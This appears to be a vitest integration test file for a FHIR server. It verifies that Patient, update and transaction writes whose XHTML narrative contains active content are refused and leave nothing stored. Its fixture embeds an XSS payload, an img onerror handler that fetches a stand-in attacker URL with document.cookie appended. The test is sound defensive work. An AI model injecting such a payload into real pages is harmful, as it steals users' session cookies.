import { describe, expect, it } from 'vitest';
import { http, issueExpressions, issueText } from '../../tests/integration/fhirClient';

const scriptNarrative = {
  status: 'generated',
  div: '<div xmlns="http://www.w3.org/1999/xhtml">Hello<img src="x" onerror="fetch(\'https://evil.example/\'+document.cookie)"/></div>',
};
const refused = 'Narrative XHTML may not contain the event attribute onerror (FHIR txt-1)';

/**
 * A narrative is shown by every client that reads the resource, not only by this web app (which
 * sanitizes it again): one that could run code is refused on the way in, and the write changes nothing.
 */
describe('narratives with active content are refused on every write', () => {
  const family = `Narrative${Date.now()}`;

  it('refuses a create, naming the field, and stores nothing', async () => {
    const created = await http('POST', 'fhir/R4/Patient', {
      body: { resourceType: 'Patient', name: [{ family }], text: scriptNarrative },
    });
    expect(created.status).toBe(400);
    expect(issueText(created.body)).toBe(refused);
    expect(issueExpressions(created.body)).toEqual(['Patient.text.div']);
    const found = await http<{ total?: number }>('GET', `fhir/R4/Patient?family=${family}&_total=accurate`);
    expect(found.body.total).toBe(0);
  });

  it('refuses an update and keeps the version before it', async () => {
    const created = await http<{ id: string; meta: { versionId: string } }>('POST', 'fhir/R4/Patient', {
      body: {
        resourceType: 'Patient',
        name: [{ family }],
        text: { status: 'generated', div: '<div xmlns="http://www.w3.org/1999/xhtml">A <b>safe</b> summary</div>' },
      },
    });
    expect(created.status).toBe(201);
    const updated = await http('PUT', `fhir/R4/Patient/${created.body.id}`, {
      body: { resourceType: 'Patient', id: created.body.id, name: [{ family }], text: scriptNarrative },
    });
    expect(updated.status).toBe(400);
    expect(issueExpressions(updated.body)).toEqual(['Patient.text.div']);
    const read = await http<{ meta: { versionId: string }; text: { div: string } }>(
      'GET',
      `fhir/R4/Patient/${created.body.id}`,
    );
    expect(read.body.meta.versionId).toBe(created.body.meta.versionId);
    expect(read.body.text.div).toContain('<b>safe</b>');
  });

  it('fails a whole transaction for one entry, a contained resource included', async () => {
    const answer = await http('POST', 'fhir/R4', {
      body: {
        resourceType: 'Bundle',
        type: 'transaction',
        entry: [
          {
            request: { method: 'POST', url: 'Patient' },
            resource: { resourceType: 'Patient', name: [{ family: `${family}Tx` }] },
          },
          {
            request: { method: 'POST', url: 'Observation' },
            resource: {
              resourceType: 'Observation',
              status: 'final',
              code: { text: 'note' },
              contained: [{ resourceType: 'Practitioner', id: 'p1', text: scriptNarrative }],
            },
          },
        ],
      },
    });
    expect(answer.status).toBe(400);
    expect(JSON.stringify(answer.body)).toContain('FHIR txt-1');
    const found = await http<{ total?: number }>('GET', `fhir/R4/Patient?family=${family}Tx&_total=accurate`);
    expect(found.body.total).toBe(0);
  });
});
